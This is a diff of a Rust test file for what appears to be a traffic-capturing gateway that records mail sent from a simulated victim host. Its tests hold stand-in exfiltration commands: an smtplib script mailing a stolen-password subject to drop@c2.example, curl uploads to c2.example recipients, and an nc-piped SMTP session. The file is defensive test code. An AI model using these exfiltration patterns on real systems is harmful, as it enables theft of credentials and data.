@@ -1,7 +1,5 @@
 //! Mail, handed over by swaks, curl, msmtp, Python's smtplib and a shell.
 
-#![expect(clippy::unwrap_used, reason = "a failure here is a failed test")]
-
 use serde_json::{Value, json};
 use testkit::programs::{Outcome, python, run, shell};
 use testkit::{Direction, Gateway};
@@ -23,16 +21,6 @@ fn swaks(gateway: &Gateway, arguments: &[&str]) {
     assert!(outcome.stdout.contains("Ok: queued as"), "swaks {arguments:?}: {outcome:?}");
 }
 
-/// The details of the events of this kind; there must be so many.
-fn all(gateway: &Gateway, kind: &str, count: usize) -> Vec<Value> {
-    let events = format!("FROM event WHERE kind = '{kind}'");
-    let counted = format!("SELECT count(*) AS count {events}");
-    gateway.database.expect(&counted, &json!([{ "count": count }]));
-    let details = format!("SELECT details {events} ORDER BY seq");
-    let read = |text: &String| serde_json::from_str(text).unwrap();
-    gateway.database.texts(&details).iter().map(read).collect()
-}
-
 /// What flows were known as, in the order it was found out, and how.
 fn recognised(gateway: &Gateway) -> Vec<String> {
     gateway.database.texts(
@@ -49,7 +37,7 @@ fn swaks_hands_over_mail_on_every_port_in_the_clear() {
         swaks(&gateway, &["--port", port, "--header", "Subject: ready"]);
     }
     swaks(&gateway, &["--protocol", "LMTP", "--port", "24"]);
-    let mails = all(&gateway, "mail.message", 6);
+    let mails = gateway.database.details("mail.message", 6);
     assert!(mails[..5].iter().all(|mail| mail["subject"] == "ready"), "{mails:?}");
     for mail in &mails {
         assert_eq!(mail["envelope_from"], "bot@victim.example");
@@ -71,7 +59,7 @@ fn swaks_hands_over_mail_inside_tls() {
         swaks(&gateway, &["--port", port, "--tlsc"]);
     }
     for kind in ["mail.message", "tls.hello", "tls.established"] {
-        all(&gateway, kind, 5);
+        gateway.database.expect_events(kind, 5);
     }
     gateway.database.expect(
         "SELECT protocol, count(*) AS count FROM flow_end GROUP BY protocol",
@@ -92,7 +80,7 @@ fn swaks_logs_in_by_every_mechanism_it_has() {
         let login = ["--auth-user", "bot", "--auth-password", "s3cret"];
         swaks(&gateway, &[&["--auth", mechanism][..], &login].concat());
     }
-    let given = all(&gateway, "credentials.given", mechanisms.len());
+    let given = gateway.database.details("credentials.given", mechanisms.len());
     for (given, mechanism) in given.iter().zip(mechanisms) {
         assert_eq!(given["mechanism"], mechanism.to_ascii_lowercase());
         // In NTLM the client takes the domain over that the server names.
@@ -133,7 +121,7 @@ fn an_attachment_is_kept_byte_for_byte() {
             "bytes": 300_000, "hash": hash, "completeness": "whole",
         }]),
     );
-    let mails = all(&gateway, "mail.message", 1);
+    let mails = gateway.database.details("mail.message", 1);
     assert_eq!(mails[0]["attachments"], json!(["loot.bin"]));
     gateway.database.expect(
         "SELECT part.part_of = whole.id AS is_part, whole.completeness FROM artifact AS part, artifact AS whole
@@ -160,13 +148,13 @@ fn curl_sends_mail_with_and_without_tls() {
             format!("curl -sSf --max-time 20 {url}/me {ends} {options} --upload-file {path}");
         shell(&gateway.network.victim, &line);
     }
-    let mails = all(&gateway, "mail.message", 4);
+    let mails = gateway.database.details("mail.message", 4);
     for mail in mails {
         assert_eq!((&mail["hello"], &mail["subject"]), (&json!("me"), &json!("ü")));
         assert_eq!(mail["envelope_to"], json!(["a@c2.example", "b@c2.example"]));
         assert_eq!(mail["text"].as_str().unwrap().trim(), "hi");
     }
-    let given = all(&gateway, "credentials.given", 3);
+    let given = gateway.database.details("credentials.given", 3);
     let secrets: Vec<&Value> = given.iter().map(|given| &given["secret"]).collect();
     assert_eq!(secrets, ["s3cret", "s3cret", "t0k3n"]);
 }
@@ -197,7 +185,7 @@ fn smtplib_logs_in_and_sends_what_malware_sends() {
          \x20   server.sendmail('', ['drop@c2.example'], 'Subject: x\\r\\n\\r\\n.\\r\\n..\\r\\n')\n"
     );
     python(&gateway.network.victim, &script);
-    let mails = all(&gateway, "mail.message", 3);
+    let mails = gateway.database.details("mail.message", 3);
     for mail in &mails[..2] {
         assert_eq!(mail["subject"], "PW_jo/DESKTOP-1");
         assert_eq!(mail["text"], "Zeit: jetzt \u{20ac}");
@@ -207,7 +195,7 @@ fn smtplib_logs_in_and_sends_what_malware_sends() {
         (&mails[2]["envelope_from"], &mails[2]["text"]),
         (&json!(""), &json!(".\r\n..\r\n"))
     );
-    for given in all(&gateway, "credentials.given", 2) {
+    for given in gateway.database.details("credentials.given", 2) {
         assert_eq!(
             (&given["user"], &given["secret"]),
             (&json!("bot@victim.example"), &json!("s3cret"))
@@ -238,8 +226,8 @@ fn msmtp_logs_in_and_sends() {
         let sent = msmtp(&gateway, options);
         assert!(sent.status.success(), "{options}: {sent:?}");
     }
-    all(&gateway, "mail.message", 4);
-    let given = all(&gateway, "credentials.given", 4);
+    gateway.database.expect_events("mail.message", 4);
+    let given = gateway.database.details("credentials.given", 4);
     let secrets: Vec<&str> = given.iter().map(|given| given["secret"].as_str().unwrap()).collect();
     assert_eq!(secrets[..3], ["s3cret"; 3]);
     assert!(secrets[3].starts_with("bot::"), "{given:?}");
@@ -251,8 +239,8 @@ fn logins_are_refused_where_that_is_set() {
     let Some(gateway) = start(&["msmtp"], &["--set", "smtp.refused_logins=1"]) else { return };
     let refused = msmtp(&gateway, "--port=587 --tls=off --auth=login");
     assert!(!refused.status.success() && refused.stderr.contains("535"), "{refused:?}");
-    assert_eq!(all(&gateway, "credentials.given", 1)[0]["secret"], "s3cret");
-    assert!(all(&gateway, "mail.message", 0).is_empty());
+    assert_eq!(gateway.database.details("credentials.given", 1)[0]["secret"], "s3cret");
+    assert!(gateway.database.details("mail.message", 0).is_empty());
 }
 
 #[test]
@@ -264,7 +252,7 @@ fn other_protocols_on_a_port_of_mail_are_answered_as_what_they_are() {
         let page = run(&gateway.network.victim, "curl", &[&usual[..], &[url]].concat());
         assert!(page.stdout.contains("<html"), "{url}: {page:?}");
     }
-    all(&gateway, "http.request", 2);
+    gateway.database.expect_events("http.request", 2);
     let expected = ["http by content", "tls by content", "http by content"];
     assert_eq!(recognised(&gateway), expected);
 }
@@ -281,7 +269,7 @@ fn a_proxy_leads_to_a_server_that_greets() {
         );
         shell(&gateway.network.victim, &line);
     }
-    all(&gateway, "mail.message", 2);
+    gateway.database.expect_events("mail.message", 2);
     let stream = gateway.database.stream(Direction::ToVictim, "dst_port = 1080");
     assert!(stream.windows(4).any(|bytes| bytes == b"220 "), "{}", stream.escape_ascii());
 }
@@ -293,7 +281,7 @@ fn a_mail_that_is_cut_off_is_noted_all_the_same() {
     let line = "printf 'HELO a\\r\\nMAIL FROM:<a@b>\\r\\nRCPT TO:<c@d>\\r\\nDATA\\r\\nSubject: cut\\r\\n\\r\\nhal' \
                 | nc -N -w 5 203.0.113.25 25";
     shell(&gateway.network.victim, line);
-    let mails = all(&gateway, "mail.message", 1);
+    let mails = gateway.database.details("mail.message", 1);
     assert_eq!((&mails[0]["subject"], &mails[0]["is_whole"]), (&json!("cut"), &json!(false)));
     gateway.database.expect(
         "SELECT source, bytes, completeness FROM artifact",
